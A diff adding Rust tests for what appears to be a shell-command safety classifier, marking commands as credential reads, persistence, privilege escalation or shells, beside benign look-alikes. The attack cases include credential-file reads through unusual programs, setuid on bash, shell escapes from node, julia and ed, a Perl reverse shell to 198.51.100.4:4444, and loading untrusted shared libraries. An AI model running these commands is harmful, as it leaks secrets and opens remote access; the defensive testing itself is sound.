@@ -1,0 +1,94 @@
+//! Reading a credential through any program (the ways to get a file's
+//! content out of one are too many to list), next to the ordinary ways of
+//! using keys and credentials without reading them out.
+
+use super::tests_support::{attack, flows};
+use super::Effect;
+
+#[test]
+fn any_program_given_a_credential_reads_it() {
+    // Programs nobody lists as readers print what they are given: in
+    // errors, as preprocessor output, as lines they fail to parse.
+    for cmd in [
+        "comm /etc/shadow /dev/null",
+        "gcc -x c -E /root/.ssh/id_rsa",
+        "ss -a -F /etc/shadow",
+        "dmesg -rF ~/.aws/credentials",
+        "pr -T /etc/gshadow",
+        "someunknowntool --input=/root/.ssh/id_ed25519",
+    ] {
+        attack(cmd, Effect::CredentialRead);
+    }
+    flows("comm sorted-a.txt sorted-b.txt");
+    flows("gcc -x c -E src/main.c");
+}
+
+#[test]
+fn a_list_of_names_is_read_even_by_programs_that_only_name_paths() {
+    attack("file -f /etc/shadow", Effect::CredentialRead);
+    attack("du --files0-from=/etc/shadow", Effect::CredentialRead);
+    flows("file -f filelist.txt");
+    flows("test -f ~/.aws/credentials && echo configured");
+    flows("[ -f .env ] || cp .env.example .env");
+}
+
+#[test]
+fn keys_used_to_authenticate_are_not_read() {
+    for cmd in [
+        "ssh -i ~/.ssh/id_rsa deploy@127.0.0.1 uptime",
+        "ssh -F ~/.ssh/config bastion uptime",
+        "ssh -o IdentityFile=~/.ssh/deploy_key deploy@127.0.0.1 true",
+        "ssh-add ~/.ssh/id_ed25519",
+        "ssh-keygen -y -f ~/.ssh/id_ed25519",
+        "ssh-keygen -lf ~/.ssh/id_rsa",
+        "curl --cert client.pem --key client.key https://api.github.com/",
+        "mysql --defaults-file=~/.my.cnf -e 'select 1'",
+        "age -d -i ~/.ssh/id_ed25519 secrets.age",
+        "npx dotenv -e .env -- node server.js",
+        "openssl req -new -key server.key -out server.csr -subj /CN=app.internal",
+        "export AWS_SHARED_CREDENTIALS_FILE=~/.aws/credentials",
+    ] {
+        flows(cmd);
+    }
+    // The same programs still read what they print.
+    attack("ssh-keygen -D /root/.ssh/id_rsa", Effect::CredentialRead);
+    attack("cat ~/.ssh/id_rsa", Effect::CredentialRead);
+    attack("scp /root/.ssh/id_rsa /tmp/k", Effect::CredentialRead);
+}
+
+#[test]
+fn taking_permissions_away_is_not_a_write() {
+    flows("chmod 600 ~/.ssh/id_rsa");
+    flows("chmod go-rwx ~/.ssh/id_ed25519");
+    attack("chmod 666 ~/.ssh/authorized_keys", Effect::Persistence);
+    attack("chmod u+s /bin/bash", Effect::PrivilegeEscalation);
+}
+
+#[test]
+fn shells_started_by_name_from_code_and_line_editors() {
+    attack(
+        "node -e 'require(\"child_process\").execSync(\"sh\", {stdio: \"inherit\"})'",
+        Effect::Shell,
+    );
+    attack("julia -e 'run(`/bin/sh`)'", Effect::Shell);
+    attack("ed -s /dev/null <<< '!sh'", Effect::Shell);
+    flows("node -e 'require(\"child_process\").execSync(\"git status\", {stdio: \"inherit\"})'");
+    flows("python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"make test\"])'");
+    flows("ed -s notes.txt <<< ',p'");
+}
+
+#[test]
+fn socket_scripts_that_run_what_they_read_are_reverse_shells() {
+    attack(
+        "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"198.51.100.4:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+        Effect::Shell,
+    );
+    flows("perl -MIO::Socket -e 'print IO::Socket::INET->new(\"127.0.0.1:8080\") ? \"up\" : \"down\"'");
+}
+
+#[test]
+fn providers_loaded_from_writable_places_are_escalation() {
+    attack("openssl req -engine /tmp/x.so", Effect::PrivilegeEscalation);
+    attack("ssh-keygen -D ./libevil.so", Effect::PrivilegeEscalation);
+    flows("ssh-add -s /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so");
+}
